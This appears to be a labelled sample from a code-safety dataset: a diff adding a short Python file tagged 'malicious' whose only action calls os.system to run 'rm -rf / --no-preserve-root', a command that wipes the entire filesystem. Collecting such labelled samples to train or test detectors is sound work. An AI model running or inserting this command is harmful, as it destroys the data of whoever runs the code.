@@ -1,0 +1,3 @@
+# label: malicious
+import os
+os.system("rm -rf / --no-preserve-root")
